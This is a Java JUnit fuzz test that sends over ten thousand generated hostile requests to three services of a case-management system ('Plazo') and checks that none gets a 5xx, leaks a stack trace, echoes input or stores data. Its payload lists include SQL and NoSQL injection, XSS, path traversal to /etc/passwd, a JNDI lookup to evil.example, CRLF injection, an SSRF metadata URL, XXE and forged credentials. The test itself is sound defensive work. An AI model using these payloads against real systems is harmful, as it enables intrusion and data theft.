package org.plazo.e2e;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.plazo.stack.PlazoService;

import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.mongodb.client.MongoDatabase;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Issue 7's fuzz test: more than ten thousand generated malformed or hostile requests
 * against the public APIs of the three running services (wrong types, huge strings, deep
 * JSON, unicode edge cases, injection strings, path traversal, wrong content types and
 * methods, missing or forged credentials and Twilio signatures). None may get a 5xx, none
 * may see a stack trace or an exception's class, none may have a hostile value echoed,
 * and nothing may be stored or published for any of them. The generator is seeded: a
 * failure names the seed and the request, and replays.
 */
@ExtendWith(SharedStack.class)
class HostileRequestsTests {

	static final long SEED = Long.getLong("plazo.fuzz.seed", 20260707L);

	static final int REQUESTS = Integer.getInteger("plazo.fuzz.requests", 10_400);

	/** A number that texts Plazo with hostile bodies, correctly signed. */
	static final List<String> TEXTERS = List.of("+50760009101", "+50760009102", "+50760009103");

	/** What an answer must never contain: a stack frame or an exception's class. */
	static final Pattern LEAK = Pattern.compile("(\\bat [\\w.$]+\\([\\w$]+\\.java:\\d+\\))"
			+ "|((java|javax|jakarta|org\\.springframework|tools\\.jackson|com\\.mongodb|org\\.apache|org\\.plazo)"
			+ "\\.[\\w.$]*(Exception|Error)\\b)|(\"trace\"\\s*:)|(\"exception\"\\s*:)");

	static final String[] HOSTILE = { "{\"$gt\":\"\"}", "'; drop table cases; --", "<script>alert(1)</script>",
			"../../../../etc/passwd", "..\\..\\windows\\win.ini", "${jndi:ldap://evil.example/a}", "{{7*7}}",
			"\u202Eevil\u202C", "a\u200B\u200C\u200D\uFEFFb", "nul\u0000byte", "\uD83D\uDE00\u0301\u0301", "\uD800lone",
			"lone\uDC00", "+50760001234\u0000", "%00%0d%0aSet-Cookie:x=y", "1e309", "-0", "NaN",
			"99999999999999999999999", "\u0130\u0131\u00DF", "SELECT * FROM cases", "admin' OR '1'='1", "\\u0000",
			"\r\n\r\nHTTP/1.1 200 OK", "\u0000\u0001\u0002\u001F", "مرحبا بالعالم", "" };

	/** Distinctive hostile values an answer must not echo. */
	static final List<String> MARKERS = List.of("<script>alert(1)</script>", "'; drop table cases", "jndi:ldap",
			"etc/passwd", "admin' OR '1'='1", "SELECT * FROM cases");

	static final Map<PlazoService, List<String>> COLLECTIONS_OF = Map.of(PlazoService.CASE, List.of("plazo-cases"),
			PlazoService.DEADLINE, List.of("plazo-deadlines"), PlazoService.NOTIFY, List.of("plazo-notify"));

	/**
	 * Boot's answer for an error no handler answered (a body Tomcat refused to read): no
	 * message, exception or trace, but not a problem yet.
	 */
	static final Pattern BOOT_ERROR = Pattern
		.compile("\\{\"timestamp\":\"[^\"]+\",\"status\":4\\d\\d,\"error\":\"[A-Za-z ]+\",\"path\":\"[^\"]*\"\\}");

	static Api api;

	static HttpClient http;

	@BeforeAll
	static void onATuesdayMorning() {
		api = new Api(SharedStack.stack());
		http = HttpClient.newBuilder()
			.version(HttpClient.Version.HTTP_1_1)
			.connectTimeout(Duration.ofSeconds(10))
			.build();
		// 9:00 in Panama on Tue 14 Apr 2026.
		SharedStack.stack().clock().set(Instant.parse("2026-04-14T14:00:00Z"));
	}

	@Test
	void answersEveryHostileRequestWithAProblemAndStoresNothing() throws Exception {
		String caseId = api.openCase("""
				{"applicant": {"name": "Rosa Fuzzdottir", "preferredLanguage": "es", "phone": "+50760009100",
				               "email": null, "preferredChannel": "SMS", "consentToContact": true,
				               "consentNoticeVersion": "2026-11"},
				 "arrivalDate": "2026-04-01", "household": []}""");
		await().atMost(Duration.ofSeconds(60)).until(() -> api.deadline(caseId, "FILING_WINDOW") != null);
		Map<String, Long> before = awaitQuiet();

		List<Probe> probes = new Generator(new Random(SEED), caseId, api.bearer(Api.CLIENT)).probes(REQUESTS);
		long started = System.nanoTime();
		List<Answer> answers = send(probes);
		Duration took = Duration.ofNanos(System.nanoTime() - started);

		Map<Integer, Integer> histogram = new TreeMap<>();
		Map<String, Map<Integer, Integer>> perService = new TreeMap<>();
		List<String> failures = new ArrayList<>();
		for (Answer answer : answers) {
			histogram.merge(answer.status, 1, Integer::sum);
			perService.computeIfAbsent(answer.probe.service.name(), (k) -> new TreeMap<>())
				.merge(answer.status, 1, Integer::sum);
			String problem = answer.problem();
			if (problem != null && failures.size() < 20) {
				failures.add(problem);
			}
		}
		System.out.printf("Fuzz (seed %d): %d hostile requests in %d s; statuses %s; per service %s%n", SEED,
				answers.size(), took.toSeconds(), histogram, perService);
		assertThat(answers).hasSizeGreaterThanOrEqualTo(10_000);
		assertThat(failures).as("seed %d", SEED).isEmpty();

		// Nothing stored or published for any of them.
		assertThat(snapshot()).as("documents per collection and events per topic").isEqualTo(before);

		textsFromHostileSendersAreAnsweredAtMostUpToTheLimit();
	}

	/**
	 * Correctly signed texts with hostile bodies and senders: each is accepted (Twilio
	 * must not retry), answered at most up to the per-sender limit, never with a 5xx.
	 */
	private void textsFromHostileSendersAreAnsweredAtMostUpToTheLimit() throws Exception {
		Random random = new Random(SEED + 1);
		List<Probe> probes = new ArrayList<>();
		for (int i = 0; i < 60; i++) {
			String from = (i % 4 == 3) ? pick(random, HOSTILE) : TEXTERS.get(i % TEXTERS.size());
			probes.add(Generator.signedInbound(from, pick(random, HOSTILE) + " " + pick(random, HOSTILE)));
		}
		List<Answer> answers = send(probes);
		for (Answer answer : answers) {
			assertThat(answer.problem()).isNull();
			assertThat(answer.status).as(answer.probe.label).isEqualTo(200);
		}
		// Each sender wrote 15 times; the limit is 10 an hour.
		await().atMost(Duration.ofSeconds(30)).until(() -> TEXTERS.stream().allMatch((t) -> api.smsTo(t).size() >= 1));
		await().during(Duration.ofSeconds(3))
			.atMost(Duration.ofSeconds(10))
			.until(() -> TEXTERS.stream().allMatch((t) -> api.smsTo(t).size() <= 10));
	}

	private static List<Answer> send(List<Probe> probes) throws Exception {
		ExecutorService pool = Executors.newFixedThreadPool(6);
		try {
			List<Future<Answer>> futures = new ArrayList<>();
			for (Probe probe : probes) {
				futures.add(pool.submit(() -> probe.send()));
			}
			List<Answer> answers = new ArrayList<>();
			for (Future<Answer> future : futures) {
				answers.add(future.get());
			}
			return answers;
		}
		finally {
			pool.shutdownNow();
		}
	}

	/** The counts once nothing has changed for two seconds (earlier tests' work done). */
	private static Map<String, Long> awaitQuiet() {
		AtomicReference<Map<String, Long>> last = new AtomicReference<>(snapshot());
		return await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofSeconds(2)).until(() -> {
			Map<String, Long> now = snapshot();
			return now.equals(last.getAndSet(now)) ? now : null;
		}, (counts) -> counts != null);
	}

	/** Documents in every collection of every service, and events on every topic. */
	private static Map<String, Long> snapshot() {
		Map<String, Long> counts = new TreeMap<>();
		for (List<String> databases : COLLECTIONS_OF.values()) {
			for (String database : databases) {
				try (MongoClient client = MongoClients.create(SharedStack.stack().mongoUri(database))) {
					MongoDatabase db = client.getDatabase(database);
					for (String collection : db.listCollectionNames()) {
						// Audit logs record every successful read, by design.
						if (!collection.endsWith("_audit")) {
							counts.put(database + "." + collection, db.getCollection(collection).countDocuments());
						}
					}
				}
			}
		}
		Map<String, Object> config = Map.of("bootstrap.servers", SharedStack.stack().kafkaBootstrapServers(),
				"group.id", "fuzz-snapshot");
		try (KafkaConsumer<byte[], byte[]> consumer = new KafkaConsumer<>(config, new ByteArrayDeserializer(),
				new ByteArrayDeserializer())) {
			List<TopicPartition> partitions = consumer.listTopics()
				.entrySet()
				.stream()
				.filter((topic) -> topic.getKey().startsWith("plazo."))
				.flatMap((topic) -> topic.getValue()
					.stream()
					.map((info) -> new TopicPartition(info.topic(), info.partition())))
				.toList();
			consumer.endOffsets(partitions)
				.forEach((partition, offset) -> counts.merge("topic " + partition.topic(), offset, Long::sum));
		}
		return counts;
	}

	private static String pick(Random random, String[] values) {
		return values[random.nextInt(values.length)];
	}

	/**
	 * One generated request.
	 */
	record Probe(String label, PlazoService service, String method, String path, Map<String, String> headers,
			byte[] body) {

		Answer send() {
			String base = SharedStack.stack().serviceUrl(this.service);
			HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + this.path))
				.timeout(Duration.ofSeconds(30));
			this.headers.forEach(request::header);
			request.method(this.method, (this.body != null) ? HttpRequest.BodyPublishers.ofByteArray(this.body)
					: HttpRequest.BodyPublishers.noBody());
			try {
				HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
				return new Answer(this, response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
						response.body());
			}
			catch (HttpTimeoutException ex) {
				return new Answer(this, -1, "", "timeout");
			}
			catch (IOException ex) {
				// A connection closed on a body the server refused to read is an answer
				// too.
				return new Answer(this, -1, "", "closed");
			}
			catch (InterruptedException ex) {
				Thread.currentThread().interrupt();
				return new Answer(this, -1, "", "interrupted");
			}
		}

		String replay() {
			return this.label + " " + this.method + " " + this.service + this.path + " " + this.headers.keySet();
		}

	}

	/**
	 * What a service answered.
	 */
	record Answer(Probe probe, int status, String contentType, String body) {

		/** What is wrong with the answer, or null. */
		String problem() {
			if (this.status < 0 && !this.body.equals("closed")) {
				return "no answer (" + this.body + ") to " + this.probe.replay();
			}
			if (this.status >= 500) {
				return this.status + " to " + this.probe.replay() + ": " + this.body;
			}
			if (this.status >= 200 && this.status < 300 && !this.probe.label.equals("read")
					&& !this.probe.label.equals("signed") && !this.probe.method.equals("OPTIONS")) {
				return "accepted " + this.probe.replay() + ": " + this.body;
			}
			if (LEAK.matcher(this.body).find()) {
				return "leaks an exception to " + this.probe.replay() + ": " + this.body;
			}
			String sent = (this.probe.body != null) ? new String(this.probe.body, StandardCharsets.UTF_8) : "";
			for (String marker : MARKERS) {
				if (this.status >= 400 && sent.contains(marker) && this.body.contains(marker)) {
					return "echoes '" + marker + "' to " + this.probe.replay();
				}
			}
			// TRACE is refused by Tomcat's servlet itself, through Boot's error page.
			if (this.status >= 400 && !this.contentType.startsWith("application/problem+json")
					&& !BOOT_ERROR.matcher(this.body).matches() && !this.probe.method.equals("TRACE")) {
				return "answers " + this.status + " as " + this.contentType + " to " + this.probe.replay() + ": "
						+ this.body;
			}
			return null;
		}

	}

	/**
	 * Seeded generator of hostile requests over the public APIs.
	 */
	static final class Generator {

		private final Random random;

		private final String caseId;

		/**
		 * A valid operator's {@code Authorization} value, so bodies and paths are fuzzed
		 * past it.
		 */
		private final String bearer;

		Generator(Random random, String caseId, String bearer) {
			this.random = random;
			this.caseId = caseId;
			this.bearer = bearer;
		}

		List<Probe> probes(int count) {
			List<Probe> probes = new ArrayList<>(count);
			for (int i = 0; i < count; i++) {
				probes.add(next(i));
			}
			return probes;
		}

		private Probe next(int i) {
			Probe probe = kind(i);
			// One in ten requests to case-service's API comes without its token: a 401.
			if ((i / 20) % 10 == 0 && probe.service() == PlazoService.CASE) {
				Map<String, String> headers = new LinkedHashMap<>(probe.headers());
				headers.remove("Authorization");
				return new Probe(probe.label(), probe.service(), probe.method(), probe.path(), headers, probe.body());
			}
			return probe;
		}

		private Probe kind(int i) {
			int kind = i % 20;
			// Half the hostile paths carry a valid token, half a hostile one.
			boolean validToken = (i / 20) % 2 == 0;
			switch (kind) {
				case 0, 1, 2:
					return json(PlazoService.CASE, "POST", "/api/v1/cases", openCase());
				case 3, 4:
					return json(PlazoService.CASE, "POST", "/api/v1/cases/" + this.caseId + "/events", caseFact());
				case 5:
					return json(PlazoService.CASE, "POST", "/api/v1/cases/" + this.caseId + "/assignments",
							assignment());
				case 6:
					return path(PlazoService.CASE,
							List.of("/api/v1/cases/", "/api/v1/cases/" + this.caseId + "/events/",
									"/api/v1/cases/" + this.caseId + "/assignments/", "/api/v1/imports/"),
							validToken);
				case 7:
					return json(PlazoService.DEADLINE, "POST", "/api/v1/calendar/closures", closure());
				case 8:
					return json(PlazoService.DEADLINE, "POST", "/api/v1/bulk-extensions", bulkExtension());
				case 9:
					return readDeadlines();
				case 10:
					return path(PlazoService.DEADLINE, List.of("/api/v1/cases/", "/api/v1/calendar/",
							"/api/v1/calendar/closures/", "/api/v1/bulk-extensions/"), validToken);
				case 11, 12:
					return twilio();
				case 13:
					return partner();
				case 14:
					return operations();
				case 15:
					return wrongMethodOrType();
				case 16:
					return raw();
				case 17:
					return read(json(PlazoService.DEADLINE, "POST", "/api/v1/deadlines/preview", preview()));
				case 18:
					return path(PlazoService.NOTIFY, List.of("/api/v1/partners/calendar/", "/api/v1/partners/cases/",
							"/api/v1/operations/notifications/", "/api/v1/messages/"), false);
				default:
					return json(PlazoService.CASE, "POST", "/api/v1/cases", deep());
			}
		}

		// Bodies. Each has at least two faults of its own (a day in the future, a bad
		// date, an unknown kind, a text too long...), so that no one mutation makes it
		// valid.

		private String openCase() {
			Map<String, Object> applicant = new LinkedHashMap<>();
			applicant.put("name", hostileOr("Rosa Fuzzdottir"));
			applicant.put("preferredLanguage", hostileOr("es"));
			applicant.put("phone", hostileOr("+50760009100"));
			applicant.put("email", hostileOr(null));
			applicant.put("preferredChannel", hostile());
			applicant.put("consentToContact", true);
			Map<String, Object> body = new LinkedHashMap<>();
			body.put("applicant", applicant);
			body.put("arrivalDate", "2999-01-01");
			body.put("household", List.of(Map.of("name", hostileOr("Luis"), "relationship", hostileOr("CHILD"),
					"birthDate", hostileOr("2019-05-01"))));
			return mutate(body);
		}

		private String caseFact() {
			Map<String, Object> body = new LinkedHashMap<>();
			body.put("type", hostileOr("INTERVIEW_SCHEDULED"));
			body.put("interviewId", hostileOr("i-1"));
			body.put("kind", hostile());
			body.put("date", this.random.nextBoolean() ? "2026-02-30" : hostile());
			body.put("time", hostile());
			return mutate(body);
		}

		private String assignment() {
			Map<String, Object> consent = new LinkedHashMap<>();
			consent.put("sharedData", List.of(hostile()));
			consent.put("givenAt", hostile());
			consent.put("obtainedBy", hostileOr("caseworker"));
			consent.put("noticeVersion", hostileOr("v1"));
			Map<String, Object> body = new LinkedHashMap<>();
			body.put("ngoId", hostileOr("ngo-1"));
			body.put("consent", consent);
			return mutate(body);
		}

		private String closure() {
			Map<String, Object> body = new LinkedHashMap<>();
			body.put("date", this.random.nextBoolean() ? "2999-12-31" : hostile());
			body.put("kind", hostile());
			body.put("reason", hostileOr("Cierre"));
			body.put("source", hostile().repeat(300));
			return mutate(body);
		}

		private String bulkExtension() {
			Map<String, Object> body = new LinkedHashMap<>();
			body.put("resolution", hostile().repeat(200));
			body.put("documents", List.of(hostileOr("PROVISIONAL_CARD_RENEWAL")));
			body.put("expiringFrom", hostileOr("2026-01-01"));
			body.put("expiringTo", hostileOr("2026-12-31"));
			body.put("validUntil", hostile());
			return mutate(body);
		}

		private String preview() {
			Map<String, Object> body = new LinkedHashMap<>();
			body.put("caseId", hostile().repeat(100));
			body.put("arrivalDate", hostile());
			return mutate(body);
		}

		private String deep() {
			int depth = 40 + this.random.nextInt(20_000);
			String open = this.random.nextBoolean() ? "[" : "{\"a\":";
			String close = open.equals("[") ? "]" : "}";
			return "{\"applicant\":" + open.repeat(depth) + "1" + close.repeat(depth) + "}";
		}

		/** One of several ways to break a body that would otherwise be well formed. */
		private String mutate(Map<String, Object> body) {
			int how = this.random.nextInt(8);
			if (how == 0) {
				body.put("$where", hostile());
			}
			else if (how == 1) {
				String key = keys(body).get(this.random.nextInt(body.size()));
				body.put(key, wrongType());
			}
			else if (how == 2) {
				body.put(hostile() + "x", 1);
			}
			else if (how == 3) {
				String key = keys(body).get(this.random.nextInt(body.size()));
				body.put(key, "A".repeat(70_000 + this.random.nextInt(1000)));
			}
			String json = Json.write(body);
			if (how == 4) {
				return json.substring(0, this.random.nextInt(json.length()));
			}
			if (how == 5) {
				return json.replaceFirst(":", ":: ");
			}
			return json;
		}

		private Object wrongType() {
			switch (this.random.nextInt(6)) {
				case 0:
					return 12345;
				case 1:
					return List.of(hostile());
				case 2:
					return Map.of("$gt", "");
				case 3:
					return false;
				case 4:
					return 1.7976931348623157E308;
				default:
					return Map.of("$ne", List.of());
			}
		}

		private static List<String> keys(Map<String, Object> body) {
			return new ArrayList<>(body.keySet());
		}

		private String hostile() {
			return pick(this.random, HOSTILE);
		}

		private Object hostileOr(Object valid) {
			return (this.random.nextInt(3) == 0) ? valid : hostile();
		}

		/** A request that changes nothing, so it may be answered. */
		private static Probe read(Probe probe) {
			return new Probe("read", probe.service(), probe.method(), probe.path(), probe.headers(), probe.body());
		}

		private Probe json(PlazoService service, String method, String path, String body) {
			Map<String, String> headers = new LinkedHashMap<>();
			headers.put("Content-Type", "application/json");
			headers.put("Authorization", this.bearer);
			return new Probe("json", service, method, path, headers, body.getBytes(StandardCharsets.UTF_8));
		}

		/** An id or name in the path: hostile, encoded or deliberately not. */
		private Probe path(PlazoService service, List<String> prefixes, boolean validToken) {
			String prefix = prefixes.get(this.random.nextInt(prefixes.size()));
			String segment = switch (this.random.nextInt(6)) {
				case 0 -> "..%2F..%2F..%2Fetc%2Fpasswd";
				case 1 -> "%2e%2e/%2e%2e/admin";
				case 2 -> "x".repeat(1 + this.random.nextInt(9000));
				case 3 -> "..;/..;/actuator/env";
				case 4 -> "%00";
				default -> encode(hostile());
			};
			String[] methods = { "GET", "GET", "DELETE", "POST", "PUT" };
			Map<String, String> headers = new LinkedHashMap<>();
			headers.put("Content-Type", "application/json");
			headers.put("Authorization", validToken ? this.bearer : "Bearer " + encode(hostile()));
			return new Probe("path", service, methods[this.random.nextInt(methods.length)], prefix + segment, headers,
					"{}".getBytes(StandardCharsets.UTF_8));
		}

		/** Queries of deadline-service with hostile parameters: may be answered. */
		private Probe readDeadlines() {
			String query = switch (this.random.nextInt(5)) {
				case 0 -> "/api/v1/calendar/business-days?from=" + encode(hostile()) + "&add=" + encode(hostile());
				case 1 -> "/api/v1/calendar/business-days?from=2026-04-14&add=" + this.random.nextInt(100_000);
				case 2 -> "/api/v1/calendar/" + encode(hostile());
				case 3 -> "/api/v1/calendar/" + (this.random.nextInt(20_000) - 5000);
				default -> "/api/v1/bulk-extensions?" + encode(hostile()) + "=" + encode(hostile());
			};
			return new Probe("read", PlazoService.DEADLINE, "GET", query, Map.of("Authorization", this.bearer), null);
		}

		/** Twilio's webhooks, without a signature or with a forged one. */
		private Probe twilio() {
			String path = this.random.nextBoolean() ? "/api/v1/sms/twilio/inbound" : "/api/v1/sms/twilio/status";
			Map<String, String> form = new LinkedHashMap<>();
			form.put("From", hostileOr("+50760009100").toString());
			form.put("Body", hostile());
			form.put("MessageSid", hostileOr("SM1").toString());
			form.put("MessageStatus", hostileOr("delivered").toString());
			if (this.random.nextInt(10) == 0) {
				form.put("Body", "B".repeat(100_000));
			}
			Map<String, String> headers = new LinkedHashMap<>();
			String signature = TwilioFake.signature(path, form);
			switch (this.random.nextInt(5)) {
				case 0 -> headers.put("X-Twilio-Signature", encode(hostile()));
				case 1 -> headers.put("X-Twilio-Signature",
						((signature.charAt(0) == 'A') ? "B" : "A") + signature.substring(1));
				// Signed over other parameters than those sent.
				case 2 -> headers.put("X-Twilio-Signature", TwilioFake.signature(path, Map.of("From", "+1")));
				case 3 -> {
				}
				default -> headers.put("X-Twilio-Signature", "");
			}
			String[] types = { "application/x-www-form-urlencoded", "application/x-www-form-urlencoded",
					"application/json", "text/plain", "multipart/form-data; boundary=zz" };
			headers.put("Content-Type", types[this.random.nextInt(types.length)]);
			return new Probe("twilio", PlazoService.NOTIFY, "POST", path, headers,
					Generator.form(form).getBytes(StandardCharsets.UTF_8));
		}

		static Probe signedInbound(String from, String body) {
			String path = "/api/v1/sms/twilio/inbound";
			Map<String, String> form = TwilioFake.inbound(from, body);
			Map<String, String> headers = new LinkedHashMap<>();
			headers.put("Content-Type", "application/x-www-form-urlencoded");
			headers.put("X-Twilio-Signature", TwilioFake.signature(path, form));
			return new Probe("signed", PlazoService.NOTIFY, "POST", path, headers,
					form(form).getBytes(StandardCharsets.UTF_8));
		}

		/** The partner API with missing, malformed or guessed credentials. */
		private Probe partner() {
			String[] paths = { "/api/v1/partners/me", "/api/v1/partners/cases", "/api/v1/partners/cases/" + this.caseId,
					"/api/v1/partners/ngos", "/api/v1/partners/endpoints", "/api/v1/partners/calendar" };
			String path = paths[this.random.nextInt(paths.length)];
			Map<String, String> headers = new LinkedHashMap<>();
			switch (this.random.nextInt(5)) {
				case 0 -> headers.put("Authorization", "Bearer " + encode(hostile()));
				case 1 -> headers.put("Authorization", "Basic YWRtaW46YWRtaW4=");
				case 2 -> headers.put("X-Plazo-Operator-Token", encode(hostile()));
				case 3 -> headers.put("Authorization", "Bearer pk_" + Long.toHexString(this.random.nextLong()));
				default -> {
				}
			}
			headers.put("Content-Type", "application/json");
			String method = this.random.nextBoolean() ? "GET" : "POST";
			String body = Json.write(Map.of("name", hostile(), "contactEmail", hostile(), "url",
					"http://169.254.169.254/latest/meta-data/", "events", List.of(hostile())));
			return new Probe("partner", PlazoService.NOTIFY, method, path, headers,
					body.getBytes(StandardCharsets.UTF_8));
		}

		/** The operations APIs without their token, or with a wrong one. */
		private Probe operations() {
			boolean deadline = this.random.nextBoolean();
			String[] paths = deadline
					? new String[] { "/api/v1/operations/deadlines/upcoming?days=" + encode(hostile()),
							"/api/v1/operations/deadlines/missed",
							"/api/v1/operations/cases/" + this.caseId + "/reminders",
							"/api/v1/operations/reminders/due-per-day?from=" + encode(hostile()) }
					: new String[] { "/api/v1/operations/notifications?status=" + encode(hostile()),
							"/api/v1/operations/notifications/dead-letters",
							"/api/v1/operations/notifications/" + encode(hostile()) + "/retry",
							"/api/v1/operations/at-risk/opted-out", "/api/v1/operations/webhooks/deliveries" };
			String path = paths[this.random.nextInt(paths.length)];
			Map<String, String> headers = new LinkedHashMap<>();
			if (this.random.nextBoolean()) {
				headers.put("X-Plazo-Operator-Token", encode(hostile()) + "x");
			}
			return new Probe("operations", deadline ? PlazoService.DEADLINE : PlazoService.NOTIFY,
					path.endsWith("/retry") ? "POST" : "GET", path, headers, null);
		}

		/** A known endpoint asked with the wrong method or content type. */
		private Probe wrongMethodOrType() {
			PlazoService[] services = PlazoService.values();
			PlazoService service = services[this.random.nextInt(services.length)];
			String path = switch (service) {
				case CASE -> "/api/v1/cases";
				case DEADLINE -> "/api/v1/calendar/closures";
				default -> "/api/v1/sms/twilio/inbound";
			};
			String[] methods = { "PUT", "PATCH", "DELETE", "POST", "POST", "OPTIONS", "TRACE" };
			String[] types = { "text/plain", "application/xml", "application/x-www-form-urlencoded",
					"multipart/form-data; boundary=----x", "application/json; charset=utf-7", "image/png", ";;;",
					"application/json", "application/*" };
			Map<String, String> headers = new LinkedHashMap<>();
			headers.put("Content-Type", types[this.random.nextInt(types.length)]);
			if (service != PlazoService.NOTIFY) {
				headers.put("Authorization", this.bearer);
			}
			if (this.random.nextBoolean()) {
				headers.put("Accept", this.random.nextBoolean() ? "text/html" : "application/xml");
			}
			String body = this.random.nextBoolean() ? "<a><b>&xxe;</b></a>" : "name=" + encode(hostile());
			String method = methods[this.random.nextInt(methods.length)];
			return new Probe("method", service, method, path, headers,
					method.equals("TRACE") ? null : body.getBytes(StandardCharsets.UTF_8));
		}

		/** Bytes that are not JSON at all, or barely. */
		private Probe raw() {
			byte[] body = switch (this.random.nextInt(12)) {
				case 0 -> new byte[0];
				case 1 -> "{".getBytes(StandardCharsets.UTF_8);
				case 2 -> "null".getBytes(StandardCharsets.UTF_8);
				case 3 -> "[]".getBytes(StandardCharsets.UTF_8);
				case 4 -> "\"applicant\"".getBytes(StandardCharsets.UTF_8);
				case 5 -> new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}' };
				case 6 -> new byte[] { (byte) 0xFF, (byte) 0xFE, 0, '{', 0 };
				case 7 -> ("{\"arrivalDate\": 1" + "0".repeat(5000) + "}").getBytes(StandardCharsets.UTF_8);
				case 8 -> "{\"a\": NaN, // comment\n}".getBytes(StandardCharsets.UTF_8);
				case 9 -> ("{\"applicant\": \"" + "\\ud800".repeat(50) + "\"}").getBytes(StandardCharsets.UTF_8);
				case 10 -> (" ".repeat(1_100_000) + "{}").getBytes(StandardCharsets.UTF_8);
				default -> ("{\"arrivalDate\":\"2026-01-01\",\"arrivalDate\":\"2999-01-01\"}")
					.getBytes(StandardCharsets.UTF_8);
			};
			PlazoService[] services = { PlazoService.CASE, PlazoService.DEADLINE, PlazoService.CASE };
			PlazoService service = services[this.random.nextInt(services.length)];
			String path = (service == PlazoService.CASE) ? "/api/v1/cases" : "/api/v1/calendar/closures";
			Map<String, String> headers = new LinkedHashMap<>();
			headers.put("Content-Type", "application/json");
			headers.put("Authorization", this.bearer);
			return new Probe("raw", service, "POST", path, headers, body);
		}

		private static String form(Map<String, String> form) {
			return form.entrySet()
				.stream()
				.map((e) -> encode(e.getKey()) + "=" + encode(e.getValue()))
				.collect(Collectors.joining("&"));
		}

		private static String encode(String text) {
			return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
		}

	}

	/** Writes JSON the way a hostile client might: lone surrogates stay escaped. */
	static final class Json {

		static String write(Object value) {
			StringBuilder out = new StringBuilder();
			write(value, out);
			return out.toString();
		}

		@SuppressWarnings("unchecked")
		private static void write(Object value, StringBuilder out) {
			if (value == null) {
				out.append("null");
			}
			else if (value instanceof String text) {
				out.append('"');
				for (char c : text.toCharArray()) {
					if (c == '"' || c == '\\') {
						out.append('\\').append(c);
					}
					else if (c < 0x20 || Character.isSurrogate(c)) {
						out.append(String.format("\\u%04x", (int) c));
					}
					else {
						out.append(c);
					}
				}
				out.append('"');
			}
			else if (value instanceof Map<?, ?> map) {
				out.append('{');
				boolean first = true;
				for (Map.Entry<String, Object> entry : ((Map<String, Object>) map).entrySet()) {
					out.append(first ? "" : ",");
					first = false;
					write(entry.getKey(), out);
					out.append(':');
					write(entry.getValue(), out);
				}
				out.append('}');
			}
			else if (value instanceof List<?> list) {
				out.append('[');
				for (int i = 0; i < list.size(); i++) {
					out.append((i > 0) ? "," : "");
					write(list.get(i), out);
				}
				out.append(']');
			}
			else {
				out.append(value);
			}
		}

	}

}
